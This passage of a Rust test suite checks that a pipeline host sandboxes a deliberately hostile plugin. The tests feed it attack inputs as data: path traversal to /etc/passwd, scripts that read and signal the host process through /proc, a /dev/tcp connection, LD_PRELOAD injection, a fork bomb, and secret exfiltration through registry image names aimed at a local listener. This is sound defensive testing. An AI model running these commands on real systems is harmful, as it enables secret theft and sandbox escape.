//! Every capability is denied unless granted: each hostile plugin attack must end
//! its stage with a clear error, while the host keeps running and a benign stage
//! after it in the same invocation still succeeds.

use gantry_e2e::{HttpServer, Output, Workspace};

fn attack(ws: &Workspace, attack: &str, target: &str, extra: &str) -> Output {
    Workspace::run_beside_benign(
        ws,
        &format!(
            "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: {attack}, target: \"{target}\" }}\n{extra}"
        ),
    )
}

/// A file outside the workspace that no stage may read.
fn outside_secret() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("secret.txt");
    std::fs::write(&file, "TOP-SECRET-OUTSIDE").unwrap();
    (dir, file)
}

fn failed_with<'a>(out: &'a Output, status: &str, text: &str) -> &'a str {
    let line = out.stage_line("evil");
    assert!(
        line.starts_with("✘ evil"),
        "stage should have failed: {line}"
    );
    assert!(
        line.contains(&format!("): {status}: ")),
        "expected status `{status}`: {line}"
    );
    assert!(line.contains(text), "expected `{text}` in: {line}");
    assert_eq!(out.code, Some(1));
    line
}

#[test]
fn reading_outside_by_dotdot_fails() {
    let (dir, _) = outside_secret();
    let ws = Workspace::new();
    // From the workspace, up to the temp root, down into the other directory.
    let name = dir.path().file_name().unwrap().to_str().unwrap();
    let out = attack(&ws, "read", &format!("../{name}/secret.txt"), "");
    failed_with(&out, "failed", "cannot read ../");
    assert!(!out.all().contains("TOP-SECRET-OUTSIDE"));
}

#[test]
fn reading_by_absolute_path_fails() {
    let (_dir, file) = outside_secret();
    let ws = Workspace::new();
    let out = attack(&ws, "read", file.to_str().unwrap(), "");
    failed_with(&out, "failed", "No such file or directory");
    assert!(!out.all().contains("TOP-SECRET-OUTSIDE"));
}

#[test]
fn reading_through_a_planted_symlink_fails() {
    let (dir, file) = outside_secret();
    let ws = Workspace::new();
    std::os::unix::fs::symlink(&file, ws.path().join("escape")).unwrap();
    std::os::unix::fs::symlink(dir.path(), ws.path().join("escape-dir")).unwrap();
    let out = attack(&ws, "read", "escape", "");
    failed_with(
        &out,
        "failed",
        "cannot read escape: Operation not permitted",
    );
    let out = attack(&ws, "read", "escape-dir/secret.txt", "");
    failed_with(&out, "failed", "cannot read escape-dir/secret.txt");
    assert!(!out.all().contains("TOP-SECRET-OUTSIDE"));
}

#[test]
fn reading_inside_the_workspace_works() {
    let ws = Workspace::new();
    ws.write("data/in.txt", "inside-data");
    let out = attack(&ws, "read", "data/in.txt", "");
    assert!(
        out.stage_line("evil")
            .contains("read data/in.txt: inside-data"),
        "{}",
        out.all()
    );
    let out = attack(&ws, "read", "/workspace/data/in.txt", "");
    assert!(
        out.stage_line("evil").contains(": inside-data"),
        "{}",
        out.all()
    );
}

#[test]
fn writing_to_a_read_only_workspace_fails() {
    let ws = Workspace::new();
    let out = attack(&ws, "write", "pwned.txt", "");
    failed_with(
        &out,
        "failed",
        "cannot write pwned.txt: Operation not permitted",
    );
    assert!(!ws.path().join("pwned.txt").exists());
    // Every refused write is reported with the grant that would allow it.
    let denial = |path: &str| {
        format!(
            "denied: stage `evil` is not allowed to write the workspace (`{path}`): grant it with `stages[0].permissions.workspace: write`"
        )
    };
    assert!(out.stdout.contains(&denial("pwned.txt")), "{}", out.stdout);
    let out = attack(&ws, "mkdir", "newdir", "");
    failed_with(&out, "failed", "cannot create newdir");
    assert!(out.stdout.contains(&denial("newdir")), "{}", out.stdout);
    assert!(!ws.path().join("newdir").exists());
    ws.write("keep.txt", "kept");
    let out = attack(&ws, "remove", "keep.txt", "");
    failed_with(&out, "failed", "cannot remove keep.txt");
    assert!(out.stdout.contains(&denial("keep.txt")), "{}", out.stdout);
    assert!(ws.path().join("keep.txt").exists());
}

#[test]
fn writing_with_a_write_grant_works() {
    let ws = Workspace::new();
    let out = attack(
        &ws,
        "write",
        "allowed.txt",
        "    permissions: { workspace: write }\n",
    );
    assert!(out.succeeded("evil"), "{}", out.all());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("allowed.txt")).unwrap(),
        "pwned"
    );
}

#[test]
fn http_to_a_host_not_granted_is_denied_before_connecting() {
    let server = HttpServer::start("hello");
    let ws = Workspace::new();
    let origin = format!("http://127.0.0.1:{}", server.port);
    let out = attack(&ws, "http", &format!("{origin}/"), "");
    failed_with(&out, "denied", "HttpRequestDenied");
    assert!(
        out.stdout.contains(&format!(
            "denied: stage `evil` is not allowed to send HTTP requests to {origin}: grant it with `stages[0].permissions.http: [\"{origin}\"]`"
        )),
        "{}",
        out.stdout
    );
    assert_eq!(server.hits(), 0, "no connection may be made");
}

#[test]
fn http_to_a_granted_origin_works_and_the_port_matters() {
    let server = HttpServer::start("hello from the test server");
    let ws = Workspace::new();
    let granted = format!(
        "    permissions: {{ http: [\"http://127.0.0.1:{}\"] }}\n",
        server.port
    );
    let out = attack(
        &ws,
        "http",
        &format!("http://127.0.0.1:{}/x", server.port),
        &granted,
    );
    assert!(
        out.stage_line("evil")
            .contains("200 hello from the test server"),
        "{}",
        out.all()
    );
    assert_eq!(server.hits(), 1);

    let other = HttpServer::start("other");
    let out = attack(
        &ws,
        "http",
        &format!("http://127.0.0.1:{}/", other.port),
        &granted,
    );
    failed_with(&out, "denied", "HttpRequestDenied");
    assert_eq!(other.hits(), 0);
    // `localhost` is not `127.0.0.1`: origins match literally.
    let out = attack(
        &ws,
        "http",
        &format!("http://localhost:{}/", server.port),
        &granted,
    );
    failed_with(&out, "denied", "HttpRequestDenied");
    assert_eq!(server.hits(), 1);
}

#[test]
fn sockets_are_denied() {
    let server = HttpServer::start("x");
    let ws = Workspace::new();
    let out = attack(&ws, "socket", &format!("127.0.0.1:{}", server.port), "");
    failed_with(&out, "denied", "cannot connect to 127.0.0.1");
    assert_eq!(server.hits(), 0);
    // The user is told too, with where outgoing HTTP is granted instead.
    assert!(
        out.stdout.contains(
            "denied: stage `evil` is not allowed to open a network socket: sockets are never granted; for outgoing HTTP, grant the origin with `stages[0].permissions.http`"
        ),
        "{}",
        out.stdout
    );
}

#[test]
fn an_infinite_loop_is_stopped_by_the_cpu_budget() {
    let ws = Workspace::new();
    let out = attack(&ws, "loop", "", "    limits: { cpu: 500ms }\n");
    failed_with(
        &out,
        "stopped",
        "exceeded its CPU budget of 500ms in WebAssembly (raise `limits.cpu`)",
    );
}

#[test]
fn a_stage_blocked_in_the_host_is_stopped_by_its_timeout() {
    let ws = Workspace::new();
    let out = attack(&ws, "sleep", "3600", "    timeout: 1s\n");
    failed_with(
        &out,
        "timeout",
        "did not finish within its timeout of 1s (raise `timeout`)",
    );
}

#[test]
fn a_memory_bomb_is_stopped_by_the_memory_cap() {
    let ws = Workspace::new();
    let out = attack(&ws, "memory", "", "    limits: { memory: 64MiB }\n");
    failed_with(
        &out,
        "stopped",
        "exceeded its memory limit of 64.0 MiB (raise `limits.memory`)",
    );
}

#[test]
fn unbounded_recursion_is_stopped() {
    let ws = Workspace::new();
    // Deep frames in wasm locals: the engine's own stack limit.
    let out = attack(&ws, "deep-recursion", "", "");
    failed_with(
        &out,
        "stopped",
        "overflowed its call stack (unbounded recursion?)",
    );
    // Big frames on the guest's shadow stack in linear memory.
    let out = attack(&ws, "recursion", "", "");
    failed_with(
        &out,
        "stopped",
        "calls deep (unbounded recursion overflowing the guest's stack?)",
    );
}

#[test]
fn a_log_flood_is_stopped_by_the_log_cap() {
    let ws = Workspace::new();
    let out = attack(&ws, "log-flood", "", "    limits: { log: 64KiB }\n");
    failed_with(
        &out,
        "stopped",
        "wrote more than its log cap of 64.0 KiB (raise `limits.log`)",
    );
    let out = attack(&ws, "stdout-flood", "", "    limits: { log: 64KiB }\n");
    failed_with(&out, "stopped", "wrote more than its log cap of 64.0 KiB");
    assert!(
        out.stdout.len() < 256 * 1024,
        "the flood must not reach the terminal: {} bytes",
        out.stdout.len()
    );
}

#[test]
fn a_stage_that_ignores_write_errors_past_its_log_cap_is_still_stopped() {
    let ws = Workspace::new();
    let out = attack(
        &ws,
        "stdout-flood-ignoring-errors",
        "",
        "    limits: { log: 64KiB }\n",
    );
    failed_with(
        &out,
        "stopped",
        "wrote more than its log cap of 64.0 KiB (raise `limits.log`)",
    );
}

#[test]
fn telemetry_is_limited_by_size_and_count() {
    let ws = Workspace::new();
    // 600 events of 1 MiB each: stopped at the default 4 MiB.
    let out = attack(&ws, "telemetry-flood", "", "");
    failed_with(
        &out,
        "stopped",
        "sent more telemetry than its limit of 4.0 MiB or 10000 metrics and events (raise `limits.telemetry` or `limits.events`)",
    );
    // Small events, but more than `limits.events`.
    let out = Workspace::run_beside_benign(
        &ws,
        "  - name: evil\n    uses: \"{hostile}\"\n    with: { attack: telemetry-flood, args: [\"50\", \"10\"] }\n    limits: { events: 20 }\n",
    );
    failed_with(&out, "stopped", "or 20 metrics and events");
}

#[test]
fn summaries_outputs_and_artifacts_are_limited_by_size() {
    let ws = Workspace::new();
    let out = attack(&ws, "big-summary", "1048576", "");
    failed_with(
        &out,
        "stopped",
        "returned a summary of 1.0 MiB, more than its limit of 64.0 KiB (raise `limits.summary`)",
    );
    assert!(
        !out.all().contains(&"s".repeat(70_000)),
        "the summary is not printed"
    );
    let out = attack(&ws, "big-outputs", "2097152", "");
    failed_with(
        &out,
        "stopped",
        "more than its limit of 1.0 MiB (raise `limits.outputs`)",
    );
    let out = attack(
        &ws,
        "big-artifacts",
        "4096",
        "    limits: { artifacts: 1KiB }\n",
    );
    failed_with(
        &out,
        "stopped",
        "more than its limit of 1.0 KiB (raise `limits.artifacts`)",
    );
    // Within a raised limit the same summary is fine.
    let out = Workspace::run_beside_benign(
        &ws,
        "  - name: evil\n    uses: \"{hostile}\"\n    with: { attack: big-summary, target: \"100000\" }\n    limits: { summary: 128KiB }\n",
    );
    assert!(out.succeeded("evil"), "{}", out.all());
}

#[test]
fn engine_build_paths_are_checked_before_the_filesystem_is_touched() {
    let ws = Workspace::new();
    let grant = "    permissions: { engine: true }\n";
    // A Dockerfile outside the context is refused as text, whether it exists or not.
    for dockerfile in [
        "../../../../etc/passwd",
        "../../../../no/such/file",
        "/etc/passwd",
    ] {
        let out = attack(&ws, "engine-build", dockerfile, grant);
        failed_with(
            &out,
            "failed",
            &format!("dockerfile `{dockerfile}` must be a relative path inside the workspace"),
        );
    }
    // A planted link as the context gets one answer, whether its target exists or not.
    std::os::unix::fs::symlink("/etc", ws.path().join("to-etc")).unwrap();
    std::os::unix::fs::symlink("/no/such/dir", ws.path().join("to-nowhere")).unwrap();
    let mut answers = vec![];
    for ctx in ["to-etc", "to-nowhere"] {
        let out = Workspace::run_beside_benign(
            &ws,
            &format!(
                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: engine-build, target: Dockerfile, args: [{ctx}] }}\n{grant}"
            ),
        );
        let line = failed_with(&out, "failed", "leads outside the workspace").to_string();
        answers.push(
            line.replace(ctx, "CTX")
                .split("): ")
                .nth(1)
                .unwrap()
                .to_string(),
        );
    }
    assert_eq!(
        answers[0], answers[1],
        "the answers must not tell the two apart"
    );
}

/// Whether anything connected to `listener` (non-blocking) since it was bound.
fn was_contacted(listener: &std::net::TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    listener.accept().is_ok()
}

#[test]
fn the_engine_fetches_only_from_granted_registries() {
    // A server of the stage's choosing: the image name would carry the data.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let registry = listener.local_addr().unwrap().to_string();
    let exfil = format!("{registry}/secret-data-abc123:1");
    let ws = Workspace::new();
    let engine_only = "    permissions: { engine: true }\n";

    // pull
    let out = attack(&ws, "engine", &exfil, engine_only);
    failed_with(
        &out,
        "denied",
        &format!(
            "not allowed to make the container engine fetch from registry `{registry}` (pulling `{exfil}`): grant it with `stages[0].permissions.registries: [\"{registry}\"]`"
        ),
    );
    // A base image, directly or through a build argument's default.
    for dockerfile in [
        format!("FROM {exfil}\n"),
        format!("ARG BASE={exfil}\nFROM ${{BASE}} AS b\nFROM scratch\nCOPY --from=b /x /x\n"),
        format!("FROM scratch\nCOPY --from={exfil} /x /x\n"),
    ] {
        ws.write("ctx/Dockerfile", &dockerfile);
        let out = Workspace::run_beside_benign(
            &ws,
            &format!(
                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: engine-build, target: Dockerfile, args: [ctx] }}\n{engine_only}"
            ),
        );
        failed_with(
            &out,
            "denied",
            &format!("fetch from registry `{registry}` (the build's image `{exfil}`)"),
        );
    }
    // What the engine would download itself, or cannot be known before the build.
    for (dockerfile, says) in [
        (
            format!("FROM scratch\nADD http://{registry}/x?d=secret /x\n"),
            "Dockerfile line 2: `ADD http://",
        ),
        (
            "FROM ${REG}/app:1\n".to_string(),
            "Dockerfile line 1: `${REG}/app:1`: the build argument `REG` has no value",
        ),
    ] {
        ws.write("ctx/Dockerfile", &dockerfile);
        let out = Workspace::run_beside_benign(
            &ws,
            &format!(
                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: engine-build, target: Dockerfile, args: [ctx] }}\n{engine_only}"
            ),
        );
        failed_with(&out, "failed", says);
    }
    assert!(
        !was_contacted(&listener),
        "the engine was sent to an ungranted registry"
    );

    // Granted, the pull goes to the engine (and from there to the registry when
    // an engine runs).
    let out = attack(
        &ws,
        "engine",
        &exfil,
        &format!("    permissions: {{ engine: true, registries: [\"{registry}\"] }}\n"),
    );
    let line = out.stage_line("evil");
    assert!(
        line.contains(&format!("pulling `{exfil}` failed"))
            || line.contains("transient: cannot reach the Docker engine"),
        "{line}"
    );
}

#[test]
fn registries_are_granted_as_host_and_port_with_the_engine() {
    let ws = Workspace::new();
    ws.manifest(
        "pipeline: p\nstages:\n  - name: a\n    uses: \"{hostile}\"\n    permissions:\n      registries: [\"https://myacr.azurecr.io\"]\n",
    );
    let out = ws.gantry(&["validate", "pipeline.yaml"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    for text in [
        "stages[0].permissions.registries[0]",
        "`https://myacr.azurecr.io` is a URL; registries are granted as host[:port]",
        "write `myacr.azurecr.io`",
        "registries are reached through the container engine, which this stage is not granted",
    ] {
        assert!(out.stderr.contains(text), "{text}: {}", out.stderr);
    }
}

#[test]
fn an_artifact_outside_the_workspace_is_denied() {
    let ws = Workspace::new();
    for path in ["../outside.tar", "/etc/passwd", "a/../../b"] {
        let out = attack(&ws, "artifact-outside", path, "");
        failed_with(
            &out,
            "denied",
            &format!("returned artifact `escape` with path `{path}` outside the workspace"),
        );
    }
}

#[test]
fn a_describe_that_loops_is_stopped_with_its_budget_named() {
    let ws = Workspace::new();
    ws.manifest("pipeline: p\nstages:\n  - name: slow\n    uses: \"{describe-loop}\"\n");
    let out = ws.gantry(&["validate", "pipeline.yaml"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(
        out.stderr
            .contains("describe() used up the CPU budget of 5s that describe() runs under"),
        "{}",
        out.stderr
    );
    assert!(
        !out.all().contains("backtrace"),
        "no raw backtrace without --verbose: {}",
        out.all()
    );
    let verbose = ws.gantry(&["validate", "pipeline.yaml", "--verbose"]);
    assert!(
        verbose.all().contains("backtrace"),
        "--verbose keeps it: {}",
        verbose.all()
    );
}

#[test]
fn exec_of_a_program_not_granted_is_denied() {
    let ws = Workspace::new();
    let out = attack(&ws, "exec", "sh", "");
    failed_with(
        &out,
        "denied",
        "stage `evil` is not allowed to run `sh`: grant it with `stages[0].permissions.exec: [sh]`",
    );
    assert!(!out.stdout.contains("pwned"));
}

#[test]
fn exec_runs_granted_programs_with_a_cleared_environment() {
    let ws = Workspace::new()
        .env("GANTRY_TEST_VISIBLE", "seen")
        .env("GANTRY_TEST_HIDDEN", "unseen");
    let out = Workspace::run_beside_benign(
        &ws,
        "  - name: evil\n    uses: \"{hostile}\"\n    with: { attack: exec, target: sh, args: [-c, env] }\n    permissions: { exec: [sh], env: [GANTRY_TEST_VISIBLE] }\n",
    );
    let line = out.stage_line("evil");
    assert!(line.starts_with("✔"), "{}", out.all());
    assert!(line.contains("exit Some(0)"), "{line}");
    assert!(
        out.stdout.contains("GANTRY_TEST_VISIBLE=seen"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("PATH="), "{}", out.stdout);
    assert!(!out.stdout.contains("GANTRY_TEST_HIDDEN"), "{}", out.stdout);
    assert!(!out.stdout.contains("HOME="), "{}", out.stdout);
}

#[test]
fn exec_cannot_leave_the_workspace_by_cwd() {
    let ws = Workspace::new();
    std::os::unix::fs::symlink("/", ws.path().join("root-link")).unwrap();
    for cwd in ["..", "/tmp", "root-link"] {
        let out = Workspace::run_beside_benign(
            &ws,
            &format!(
                "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: exec, target: sh, cwd: \"{cwd}\" }}\n    permissions: {{ exec: [sh] }}\n"
            ),
        );
        let line = failed_with(&out, "failed", "cwd");
        assert!(
            line.contains("inside the workspace") || line.contains("outside the workspace"),
            "{line}"
        );
    }
}

#[test]
fn a_secret_not_granted_is_denied_and_never_shown() {
    let ws = Workspace::new().env("GANTRY_TEST_TOKEN", "hunter2-very-secret");
    ws.manifest(
        "pipeline: sandbox\nsecrets:\n  token: { env: GANTRY_TEST_TOKEN }\nstages:\n  - name: evil\n    uses: \"{hostile}\"\n    with: { attack: secret, target: token }\n  - name: benign\n    uses: \"{noop}\"\n",
    );
    let out = ws.run();
    assert!(out.succeeded("benign"));
    failed_with(
        &out,
        "denied",
        "stage `evil` is not allowed to read secret `token`: grant it with `stages[0].permissions.secrets: [token]`",
    );
    assert!(!out.all().contains("hunter2"));
}

#[test]
fn host_environment_variables_are_invisible_unless_granted() {
    let ws = Workspace::new().env("GANTRY_TEST_HIDDEN", "unseen-value");
    let out = attack(&ws, "env", "GANTRY_TEST_HIDDEN", "");
    failed_with(&out, "denied", "environment variable GANTRY_TEST_HIDDEN");
    assert!(!out.all().contains("unseen-value"));
    let out = attack(
        &ws,
        "env",
        "GANTRY_TEST_HIDDEN",
        "    permissions: { env: [GANTRY_TEST_HIDDEN] }\n",
    );
    assert!(
        out.stage_line("evil")
            .contains("GANTRY_TEST_HIDDEN=unseen-value"),
        "{}",
        out.all()
    );
}

#[test]
fn the_container_engine_is_denied_unless_granted() {
    let ws = Workspace::new();
    let out = attack(&ws, "engine", "busybox", "");
    failed_with(
        &out,
        "denied",
        "grant it with `stages[0].permissions.engine: true`",
    );
    // Granted, the call reaches the engine (a registry that is not there: the
    // pull fails, naming the reference; with no engine at all it is
    // `unavailable`, a transient error).
    let out = attack(
        &ws,
        "engine",
        "127.0.0.1:1/gantry-none:1",
        "    permissions: { engine: true, registries: [\"127.0.0.1:1\"] }\n",
    );
    let line = out.stage_line("evil");
    assert!(
        line.contains("pulling `127.0.0.1:1/gantry-none:1` failed")
            || line.contains("transient: cannot reach the Docker engine"),
        "{line}"
    );
}

#[test]
fn the_cluster_is_denied_outside_granted_namespaces() {
    let ws = Workspace::new();
    let out = attack(
        &ws,
        "cluster",
        "kube-system",
        "    permissions: { cluster: { namespaces: [apps] } }\n",
    );
    failed_with(
        &out,
        "denied",
        "grant it with `stages[0].permissions.cluster: { namespaces: [kube-system] }`",
    );
    let out = attack(
        &ws,
        "cluster",
        "apps",
        "    permissions: { cluster: { namespaces: [apps] } }\n",
    );
    // Granted, the call reaches the host, which has no cluster for this
    // environment and says how to name one.
    failed_with(
        &out,
        "transient",
        "environment `default` names no cluster: add `cluster: { kubeconfig: <path>, context: <name> }`",
    );
}

// Programs started through `exec` are confined by the kernel, and nothing they
// start outlives their stage.

/// The `evil` stage: the hostile plugin execs `program` with `args` (and the
/// variables `env`, a JSON object), under `permissions` (a YAML flow mapping).
fn exec_stage(program: &str, args: &[&str], env: &str, permissions: &str, extra: &str) -> String {
    format!(
        "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: exec, target: \"{program}\", args: {}, env: {env} }}\n    permissions: {permissions}\n{extra}",
        serde_json::to_string(args).unwrap()
    )
}

/// A marker no other process on the machine has in its command line.
fn marker(what: &str) -> String {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    format!(
        "gantry-test-{what}-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::SeqCst)
    )
}

/// Pids of the processes whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .bytes()
                .all(|b| b.is_ascii_digit())
        })
        .filter_map(|e| {
            let cmd = std::fs::read(e.path().join("cmdline")).ok()?;
            let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
            // Zombies have an empty command line; they hold nothing.
            cmd.contains(marker)
                .then(|| format!("{} {cmd}", e.file_name().to_string_lossy()))
        })
        .collect()
}

/// Wait until a process holding `marker` runs (at most a minute).
fn wait_for_process(marker: &str) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while processes_with(marker).is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "no process `{marker}` started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// Wait until no process holds `marker`; the ones left after a minute.
fn left_behind(marker: &str) -> Vec<String> {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let left = processes_with(marker);
        if left.is_empty() || std::time::Instant::now() > deadline {
            return left;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

#[test]
fn an_exec_denial_for_a_path_suggests_the_name_validate_accepts() {
    let ws = Workspace::new();
    let out = attack(&ws, "exec", "/bin/sh", "");
    failed_with(
        &out,
        "denied",
        "stage `evil` is not allowed to run `/bin/sh`: grant it with `stages[0].permissions.exec: [sh]`",
    );
    // And that grant is one `gantry validate` accepts.
    ws.manifest("pipeline: p\nstages:\n  - name: a\n    uses: \"{hostile}\"\n    with: { attack: exec, target: sh }\n    permissions: { exec: [sh] }\n");
    let out = ws.gantry(&["validate", "pipeline.yaml"]);
    assert_eq!(out.code, Some(0), "{}", out.all());
}

#[test]
fn exec_cannot_read_the_memory_or_environment_of_gantry_nor_signal_it() {
    let secret = marker("environ-secret");
    let ws = Workspace::new().env("GANTRY_TEST_SECRET", &secret);
    // The program learns gantry's pid from the file the test writes.
    let script = r#"while [ ! -s gantry.pid ]; do sleep 0.05; done; p=$(cat gantry.pid); d=/proc/$p
echo "attacking gantry $p"
cat $d/environ && echo "READ-ENVIRON" || echo "environ refused"
cat $d/cmdline >/dev/null && echo "READ-CMDLINE" || echo "cmdline refused"
head -c 16 $d/mem >/dev/null && echo "READ-MEM" || echo "mem refused"
kill -STOP $p && echo "STOPPED" || echo "kill refused"
kill -0 $p && echo "SIGNALLED" || echo "signal refused"
cat /proc/*/environ; true"#;
    ws.manifest(&format!(
        "pipeline: sandbox\nstages:\n{}  - name: benign\n    uses: \"{{noop}}\"\n",
        exec_stage("sh", &["-c", script], "{}", "{ exec: [sh] }", "")
    ));
    let child = ws
        .command(&["run", "pipeline.yaml"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    ws.write("gantry.pid", child.id().to_string());
    let out = child.wait_with_output().unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // gantry was not stopped: it finished, and so did the benign stage.
    assert_eq!(out.status.code(), Some(0), "{all}");
    assert!(all.contains("✔ benign"), "{all}");
    assert!(
        all.contains(&format!(
            "attacking gantry {}",
            std::fs::read_to_string(ws.path().join("gantry.pid")).unwrap()
        )),
        "{all}"
    );
    for line in [
        "environ refused",
        "cmdline refused",
        "mem refused",
        "kill refused",
        "signal refused",
    ] {
        assert!(all.contains(line), "expected `{line}`:\n{all}");
    }
    for bad in [
        "READ-ENVIRON",
        "READ-CMDLINE",
        "READ-MEM",
        "STOPPED",
        "SIGNALLED",
    ] {
        assert!(!all.contains(bad), "`{bad}`:\n{all}");
    }
    assert!(
        !all.contains(&secret),
        "gantry's environment leaked:\n{all}"
    );
}

#[test]
fn exec_cannot_write_outside_the_workspace_or_a_read_only_one() {
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("pwned.txt");
    let ws = Workspace::new();
    let script = format!(
        "touch {} ; touch pwned.txt ; touch $TMPDIR/scratch && echo tmp-ok",
        target.display()
    );
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage("sh", &["-c", &script], "{}", "{ exec: [sh] }", ""),
    );
    assert!(out.succeeded("evil"), "{}", out.all());
    assert!(out.stdout.contains("Permission denied"), "{}", out.stdout);
    assert!(
        out.stdout.contains("tmp-ok"),
        "the private TMPDIR is writable: {}",
        out.stdout
    );
    assert!(!target.exists(), "wrote outside the workspace");
    assert!(
        !ws.path().join("pwned.txt").exists(),
        "wrote a read-only workspace"
    );
    // With `workspace: write` the workspace is writable, outside still is not.
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "sh",
            &["-c", &script],
            "{}",
            "{ exec: [sh], workspace: write }",
            "",
        ),
    );
    assert!(out.succeeded("evil"), "{}", out.all());
    assert!(ws.path().join("pwned.txt").exists(), "{}", out.all());
    assert!(!target.exists(), "wrote outside the workspace");
}

#[test]
fn exec_reads_only_granted_paths_outside_the_workspace() {
    let (dir, file) = outside_secret();
    let ws = Workspace::new();
    let args = ["-c", &format!("cat {}", file.display())];
    let out =
        Workspace::run_beside_benign(&ws, &exec_stage("sh", &args, "{}", "{ exec: [sh] }", ""));
    assert!(out.stdout.contains("Permission denied"), "{}", out.stdout);
    assert!(!out.all().contains("TOP-SECRET-OUTSIDE"));
    let granted = format!(
        "{{ exec: [sh], exec-read: [\"{}\"] }}",
        dir.path().display()
    );
    let out = Workspace::run_beside_benign(&ws, &exec_stage("sh", &args, "{}", &granted, ""));
    assert!(out.succeeded("evil"), "{}", out.all());
    assert!(out.stdout.contains("TOP-SECRET-OUTSIDE"), "{}", out.stdout);
    // Writing it takes `exec-write`.
    let write = ["-c", &format!("echo changed > {}", file.display())];
    Workspace::run_beside_benign(&ws, &exec_stage("sh", &write, "{}", &granted, ""));
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "TOP-SECRET-OUTSIDE"
    );
    let granted = format!(
        "{{ exec: [sh], exec-write: [\"{}\"] }}",
        dir.path().display()
    );
    let out = Workspace::run_beside_benign(&ws, &exec_stage("sh", &write, "{}", &granted, ""));
    assert!(out.succeeded("evil"), "{}", out.all());
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "changed\n");
}

#[test]
fn exec_has_no_network_unless_granted() {
    let server = HttpServer::start("x");
    let ws = Workspace::new();
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{} && echo CONNECTED || echo connect-refused",
        server.port
    );
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage("bash", &["-c", &script], "{}", "{ exec: [bash] }", ""),
    );
    assert!(out.stdout.contains("connect-refused"), "{}", out.stdout);
    assert!(!out.stdout.contains("CONNECTED"), "{}", out.stdout);
    assert_eq!(server.hits(), 0, "no connection may be made");
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "bash",
            &["-c", &script],
            "{}",
            "{ exec: [bash], exec-network: true }",
            "",
        ),
    );
    assert!(out.stdout.contains("CONNECTED"), "{}", out.all());
    assert_eq!(server.hits(), 1);
}

#[test]
fn exec_refuses_variables_that_change_how_programs_are_loaded() {
    let ws = Workspace::new();
    ws.write("evil.so", "not really a library");
    for (var, value) in [
        ("LD_PRELOAD", "./evil.so"),
        ("GCONV_PATH", "."),
        ("TMPDIR", "/tmp"),
    ] {
        let out = Workspace::run_beside_benign(
            &ws,
            &exec_stage(
                "true",
                &[],
                &format!("{{ {var}: \"{value}\" }}"),
                "{ exec: [\"true\"] }",
                "",
            ),
        );
        let expected = format!(
            "stage `evil` is not allowed to pass `{var}` to `true`: variables that change how programs are loaded"
        );
        failed_with(&out, "denied", &expected);
        assert!(
            out.stdout.contains(&format!("denied: {expected}")),
            "{}",
            out.stdout
        );
    }
}

#[test]
fn exec_skips_relative_path_entries() {
    let ws = Workspace::new();
    let planted = ws.write("gantry-planted", "#!/bin/sh\necho PLANTED-RAN\n");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:.:", std::env::var("PATH").unwrap());
    let ws = ws.env("PATH", &path);
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "gantry-planted",
            &[],
            "{}",
            "{ exec: [gantry-planted] }",
            "",
        ),
    );
    failed_with(
        &out,
        "failed",
        "`gantry-planted` is granted but not found on the host's PATH",
    );
    assert!(!out.stdout.contains("PLANTED-RAN"), "{}", out.stdout);
}

#[test]
fn a_fork_bomb_is_capped_by_the_process_limit() {
    let ws = Workspace::new();
    let mark = marker("fork");
    let script = format!(
        "i=0; while [ $i -lt 200 ]; do sh -c 'sleep 600; :' {mark} & i=$((i+1)); done; echo spawned; wait"
    );
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "sh",
            &["-c", &script],
            "{}",
            "{ exec: [sh] }",
            "    limits: { processes: 40 }\n    timeout: 20s\n",
        ),
    );
    let all = out.all();
    assert!(
        all.contains("Cannot fork") || all.contains("Resource temporarily unavailable"),
        "forks past the cap must fail:\n{all}"
    );
    assert_eq!(left_behind(&mark), Vec::<String>::new());
}

#[test]
fn nothing_an_exec_started_outlives_it() {
    let ws = Workspace::new();
    let (a, b) = (marker("setsid"), marker("double-fork"));
    // A new session holding the output pipe, and a double fork.
    let script =
        format!("setsid sh -c 'sleep 600; :' {a} & (sh -c 'sleep 600; :' {b} &) ; echo started");
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "sh",
            &["-c", &script],
